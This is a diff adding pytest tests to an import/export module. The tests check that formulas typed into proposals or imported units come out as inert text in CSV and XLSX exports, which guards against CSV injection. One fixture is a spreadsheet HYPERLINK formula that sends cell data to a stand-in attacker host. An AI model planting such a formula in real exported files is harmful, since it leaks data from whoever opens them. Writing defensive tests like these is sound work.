@@ -4,6 +4,7 @@ History imported from a file goes through the same services as items entered by 
 states, numbers, events and deadlines. A bad row writes nothing; the round trip changes nothing;
 numbering continues after the imported numbers."""
 
+import io
 from datetime import date
 
 import pytest
@@ -555,3 +556,40 @@ def test_the_export_costs_a_constant_number_of_queries(tmp_path, secretary, town
     few = cost()
     assert import_history(tmp_path, secretary, rows=HISTORY[2:]).ok
     assert cost() == few
+
+
+# Exports cannot attack the reader (OWASP's CSV-injection rule)
+
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
+
+
+def test_a_formula_typed_through_the_portal_is_text_in_every_export(tmp_path, secretary):
+    helpers.registered(ProposalFactory(title=FORMULA_TITLE), secretary)
+    sheet = load_workbook(io.BytesIO(export_file("proposals", "p.xlsx"))).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA_TITLE]
+    assert cells and all(cell.data_type == "s" for cell in cells)  # "f" would run it
+    text = export_file("proposals", "p.csv").decode("utf-8-sig")
+    assert f"'{FORMULA_TITLE}" in text.replace('""', '"')
+    assert not any(
+        cell.lstrip('"').startswith(("=", "+", "-", "@"))
+        for line in text.splitlines()
+        for cell in line.split(",")
+    )
+
+
+@pytest.mark.parametrize("name", ["=1+1", "+86 民政办", "-民政办", "@SUM(A1)"])
+def test_an_imported_formula_comes_out_as_text_and_round_trips(tmp_path, secretary, name):
+    typed = tmp_path / "typed.csv"  # as a clerk's CSV holds it: the bare text
+    typed.write_text(",".join(UNITS) + f"\n{name},村,,\n", encoding="utf-8")
+    report = run("units", typed, secretary)
+    assert report.ok, messages(report)
+    assert HandlingUnit.objects.get().name == name
+    exported = tmp_path / "u.csv"
+    exported.write_bytes(export_file("units", "u.csv"))
+    assert f"'{name}" in exported.read_text("utf-8-sig")
+    xlsx = load_workbook(io.BytesIO(export_file("units", "u.xlsx"))).active
+    assert [c.data_type for row in xlsx.iter_rows() for c in row if c.value == name] == ["s"]
+    # The apostrophe the export added is taken off again: the round trip changes nothing.
+    again = run("units", exported, secretary)
+    assert again.ok and (again.new, again.updated) == (0, 0), messages(again)
+    assert HandlingUnit.objects.get().name == name
